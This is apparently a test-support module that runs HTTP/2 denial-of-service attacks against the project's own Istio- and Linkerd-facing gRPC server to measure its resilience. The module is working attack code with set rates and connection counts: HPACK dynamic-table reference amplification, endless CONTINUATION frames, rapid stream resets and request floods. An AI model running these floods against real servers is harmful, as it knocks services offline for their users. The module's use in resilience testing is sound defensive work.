"""Peers that mean harm, in a process of their own: what one core can send.

`python -m tests.support.clients.attacks KIND ADDRESS SECONDS` sends at the rate of the
kind and prints what it could send. Whoever is cut off connects again.

Source:
    RFC 7541, section 6.1 (one byte repeats a header that was sent once); RFC 9113.
"""

import argparse
import json
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass

from bridge.server import istio, linkerd
from tests.support.clients import http2
from tests.support.harness.real_process import SERVER_NAME

_TICK_SECONDS = 0.02
_PATIENCE_SECONDS = 1.0
_CONTINUATION = 9
_UNKNOWN = "/grpc.health.v1.Health/Check"
_LARGEST_STREAM = 2**31 - 1
_FRAME_BYTES = 16_384
_FIRST_REFERENCE = b"\xbe"
"""The newest entry of the dynamic table: index 62."""

Send = Callable[[int, int], bytes]
"""Makes what is sent for a stream, given its number on its connection from 0."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """What is sent, how often, and over how many connections."""

    front: str
    send: Send
    per_second: float
    """Of `send`, over all connections."""
    connections: int
    streams: int = _LARGEST_STREAM
    """The most on one connection, which is then left open, or closed."""
    hangs_up: bool = False


def _literals(path: str) -> bytes:
    # Without HPACK's dynamic table: the block is the same for each call.
    return http2.begun(1, path=path)[9:]


def _headers(stream: int, block: bytes, *, end_stream: bool) -> bytes:
    flags = http2.END_STREAM if end_stream else 0
    head, rest = block[:_FRAME_BYTES], block[_FRAME_BYTES:]
    if not rest:
        flags |= http2.END_HEADERS
    out = http2.frame(http2.HEADERS, flags, stream, head)
    while rest:
        head, rest = rest[:_FRAME_BYTES], rest[_FRAME_BYTES:]
        end = 0 if rest else http2.END_HEADERS
        out += http2.frame(_CONTINUATION, end, stream, head)
    return out


def _indexed(path: str) -> tuple[bytes, bytes]:
    """Return the block of a first call, and that of each later one, of 9 bytes."""
    fields = (
        (b":path", path.encode()),
        (b":authority", SERVER_NAME.encode()),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    )
    first = b"\x83\x87" + b"".join(
        b"\x40" + http2.text(name) + http2.text(value) for name, value in fields
    )
    return first, b"\x83\x87\xc1\xc0\xbf\xbe"


def calls(path: str, *, end_stream: bool) -> Send:
    """Begin calls, each with as few bytes as can be."""
    first, later = _indexed(path)

    def send(stream: int, number: int) -> bytes:
        return _headers(stream, later if number else first, end_stream=end_stream)

    return send


def references(path: str, count: int) -> Send:
    """Send complete calls, each with one empty header, again and again."""
    always = _literals(path)
    new = b"\x40" + http2.text(b"x") + http2.text(b"")

    def send(stream: int, number: int) -> bytes:
        block = always + (b"" if number else new) + _FIRST_REFERENCE * count
        return _headers(stream, block, end_stream=True)

    return send


def endless(path: str, size: int) -> Send:
    """Send one block of references that never ends, `size` bytes a time."""
    always = _literals(path)
    new = b"\x40" + http2.text(b"x") + http2.text(b"")

    def send(stream: int, number: int) -> bytes:
        if not number:
            return http2.frame(http2.HEADERS, 0, stream, always + new)
        return http2.frame(_CONTINUATION, 0, 1, _FIRST_REFERENCE * size)

    return send


def resets(path: str) -> Send:
    """Begin calls and take them back."""
    begin = calls(path, end_stream=False)

    def send(stream: int, number: int) -> bytes:
        return begin(stream, number) + http2.reset(stream)

    return send


def messages(path: str, message: bytes) -> Send:
    """Send complete calls with a message that will be refused."""
    begin = calls(path, end_stream=False)
    body = http2.framed(message)

    def send(stream: int, number: int) -> bytes:
        data = http2.frame(http2.DATA, http2.END_STREAM, stream, body)
        return begin(stream, number) + data

    return send


ATTACKS: dict[str, Attack] = {
    "references": Attack(
        front="istio",
        send=references(istio.METHOD, 31_000),
        per_second=200,
        connections=8,
    ),
    "short-references": Attack(
        front="istio",
        send=references(istio.METHOD, 16_000),
        per_second=390,
        connections=8,
    ),
    "endless-blocks": Attack(
        front="istio",
        send=endless(istio.METHOD, 9_000),
        per_second=200,
        connections=200,
        streams=6,
    ),
    "unknown-methods": Attack(
        front="istio",
        send=calls(_UNKNOWN, end_stream=True),
        per_second=10_000,
        connections=8,
    ),
    "no-message": Attack(
        front="istio",
        send=calls(istio.METHOD, end_stream=True),
        per_second=10_000,
        connections=8,
    ),
    "withheld-messages": Attack(
        front="istio",
        send=calls(istio.METHOD, end_stream=False),
        per_second=10_000,
        connections=8,
    ),
    "resets": Attack(
        front="istio", send=resets(istio.METHOD), per_second=10_000, connections=8
    ),
    "bad-tokens": Attack(
        front="istio",
        send=messages(istio.METHOD, b"\x0a\x03pem"),
        per_second=2_000,
        connections=8,
    ),
    "linkerd-withheld": Attack(
        front="linkerd",
        send=calls(linkerd.METHOD, end_stream=False),
        per_second=47_000 / 15,
        connections=1,
    ),
    "linkerd-resets": Attack(
        front="linkerd",
        send=resets(linkerd.METHOD),
        per_second=10_000,
        connections=1,
    ),
    "linkerd-bad-tokens": Attack(
        front="linkerd",
        send=messages(linkerd.METHOD, b"\x0a\x03pem"),
        per_second=2_000,
        connections=1,
    ),
    "linkerd-references": Attack(
        front="linkerd",
        send=references(linkerd.METHOD, 16_000),
        per_second=390,
        connections=8,
    ),
    "linkerd-unknown": Attack(
        front="linkerd",
        send=calls(_UNKNOWN, end_stream=True),
        per_second=10_000,
        connections=8,
    ),
    "turns": Attack(
        front="istio",
        send=calls(istio.METHOD, end_stream=False),
        per_second=30_000 / 15,
        connections=300,
    ),
}
"""By name. The rates are those of issue 18, or what its bytes a second come to."""


class Peer:
    """One connection of an attacker, opened again when it was closed."""

    def __init__(self, connect: Callable[[], socket.socket], attack: Attack) -> None:
        self._connect = connect
        self._attack = attack
        self._socket: socket.socket | None = None
        self._number = 0

    def open(self) -> None:
        """Connect, unless it is connected."""
        if self._socket is None:
            made = self._connect()
            made.settimeout(_PATIENCE_SECONDS)
            made.sendall(http2.PREFACE + http2.frame(http2.SETTINGS))
            made.recv(65_536)  # its settings: until they are acknowledged it is strict
            made.sendall(http2.frame(http2.SETTINGS, http2.ACK))
            self._socket, self._number = made, 0

    def send(self, count: int) -> int:
        """Send `count` times, or less; return the bytes."""
        self.open()
        assert self._socket is not None
        send = self._attack.send
        first = self._number
        numbers = range(first, min(first + count, self._attack.streams))
        data = b"".join(send(2 * number + 1, number) for number in numbers)
        self._socket.sendall(data)
        self._number += len(numbers)
        self._discard()
        return len(data)

    def close(self) -> None:
        """Hang up."""
        if self._socket is not None:
            self._socket.close()
        self._socket = None

    def _discard(self) -> None:
        # A server that cannot write stops reading.
        assert self._socket is not None
        self._socket.settimeout(0)
        with suppress(BlockingIOError, ssl.SSLWantReadError):
            while self._socket.recv(65_536):
                pass
            raise ConnectionError("the server hung up")
        self._socket.settimeout(_PATIENCE_SECONDS)


def run(attack: Attack, address: str, seconds: float, source: str) -> dict[str, float]:
    """Attack for so long; return what was sent, and how often the server hung up."""
    peers = [
        Peer(_connector(attack.front, address, source), attack)
        for _ in range(attack.connections)
    ]
    sent = data = cut = 0
    for peer in peers:
        peer.open()
    began = time.monotonic()
    for peer in _in_turn(peers):
        now = time.monotonic() - began
        if now > seconds:
            break
        share = attack.per_second * _TICK_SECONDS / len(peers)
        due = int(now * attack.per_second) - sent
        if due <= 0:
            time.sleep(_TICK_SECONDS / 4)
            continue
        count = max(1, min(due, int(share * 4)))
        sent += count
        try:
            data += peer.send(count)
        except OSError:
            cut += 1
            peer.close()
    for peer in peers:
        peer.close()
    return {"sent": sent, "bytes": data, "cut": cut, "seconds": seconds}


def _in_turn(peers: list[Peer]) -> Iterator[Peer]:
    while True:
        yield from peers


def _connector(front: str, address: str, source: str) -> Callable[[], socket.socket]:
    host, port = address.rsplit(":", 1)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE  # it does not care who it harms
    context.set_alpn_protocols(["h2"])

    def connect() -> socket.socket:
        made = socket.create_connection(
            (host, int(port)), _PATIENCE_SECONDS, (source, 0)
        )
        made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        if front == "linkerd":
            return made
        return context.wrap_socket(made, server_hostname=SERVER_NAME)

    return connect


def main() -> int:
    """Attack as the arguments say; print the totals as JSON."""
    parser = argparse.ArgumentParser(prog="attacks", description=__doc__)
    parser.add_argument("kind", choices=[*ATTACKS])
    parser.add_argument("address")
    parser.add_argument("seconds", type=float)
    parser.add_argument("--source", default="127.0.0.2", help="address to call from")
    given = parser.parse_args()
    found = run(ATTACKS[given.kind], given.address, given.seconds, given.source)
    sys.stdout.write(f"{json.dumps(found)}\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
